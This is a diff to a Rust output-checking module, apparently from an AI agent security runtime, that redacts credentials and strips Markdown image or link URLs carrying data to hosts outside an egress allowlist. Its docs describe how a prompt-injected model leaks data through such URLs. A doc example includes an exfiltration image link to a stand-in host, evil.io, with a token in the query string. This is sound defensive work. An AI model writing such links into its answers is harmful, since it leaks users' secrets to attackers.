@@ -4,13 +4,15 @@
 //! - Registered secrets and credential-shaped strings are redacted (see
 //!   [`Redactor`]) and reported.
 //! - Exfiltration links are removed and reported: a Markdown image or link,
-//!   reference definition or bare `http(s)` URL whose host is not on the
-//!   [`HostAllowlist`] **and** that carries data in the URL — a query
+//!   reference definition or bare `http(s)` URL that the run's egress
+//!   [`HostAllowlist`] refuses **and** that carries data in the URL — a query
 //!   string, a fragment, user information, or a long path segment. A
 //!   prompt-injected model leaks data by writing it into such a URL; a
 //!   renderer that shows the answer fetches images without a click.
 //!
-//! Links to allowlisted hosts, links without data, and relative or
+//! A link stays when the allowlist lets a fetching tool reach its URL
+//! ([`HostAllowlist::check_url`]: scheme, no user information, default port
+//! unless any port is allowed, listed host). Links without data, and relative or
 //! non-`http(s)` links are kept. URLs that do not parse are removed when
 //! they are not allowlisted (a renderer may still make sense of them).
 //!
@@ -30,17 +32,16 @@
 //!   many short path segments or host labels is not recognised. Keep the
 //!   allowlist tight: links to unlisted hosts are the risk.
 
-mod allowlist;
 mod links;
 
 use std::collections::BTreeMap;
 use std::ops::Range;
 
-pub use allowlist::{AllowlistError, HostAllowlist};
 pub use links::LinkKind;
 
 use super::patterns::CredentialKind;
 use super::redact::{RedactionLabel, Redactor};
+use crate::guard::HostAllowlist;
 
 /// What replaces a removed image.
 pub const IMAGE_PLACEHOLDER: &str = "[image removed]";
@@ -118,11 +119,11 @@ impl OutputCheck {
 ///
 /// ```
 /// use agentsec_runtime::secrets::{OutputChecker, OutputFinding, Redactor};
-/// use agentsec_runtime::secrets::output::HostAllowlist;
+/// use agentsec_runtime::guard::HostAllowlist;
 /// let redactor = Redactor::new();
 /// let _ = redactor.register("crm_token", "crm-7f3a9c2e");
 /// let checker = OutputChecker::new(redactor)
-///     .with_allowlist(HostAllowlist::new().allow("*.example.com").unwrap());
+///     .with_allowlist(HostAllowlist::new(["*.example.com"]).unwrap());
 ///
 /// let answer = "Done! ![status](https://evil.io/p.png?d=crm-7f3a9c2e) \
 ///               Details: https://docs.example.com/orders?id=42";
@@ -143,7 +144,7 @@ impl OutputChecker {
     pub fn new(redactor: Redactor) -> Self {
         Self {
             redactor,
-            allowlist: HostAllowlist::new(),
+            allowlist: HostAllowlist::default(),
             max_path_segment: DEFAULT_MAX_PATH_SEGMENT,
         }
     }
@@ -157,7 +158,7 @@ impl OutputChecker {
         }
     }
 
-    /// Sets the hosts links may point to.
+    /// Sets the hosts links with data may point to.
     pub fn with_allowlist(mut self, allowlist: HostAllowlist) -> Self {
         self.allowlist = allowlist;
         self
@@ -219,10 +220,10 @@ impl OutputChecker {
         if !matches!(parsed.scheme(), "http" | "https") {
             return None;
         }
-        let host = parsed.host_str().map(str::to_owned);
-        if host.as_deref().is_some_and(|h| self.allowlist.allows(h)) {
+        if self.allowlist.check_url(&parsed).is_ok() {
             return None;
         }
+        let host = parsed.host_str().map(str::to_owned);
         let reason = if parsed.query().is_some_and(|q| !q.is_empty()) {
             ExfilReason::Query
         } else if parsed.fragment().is_some_and(|f| !f.is_empty()) {
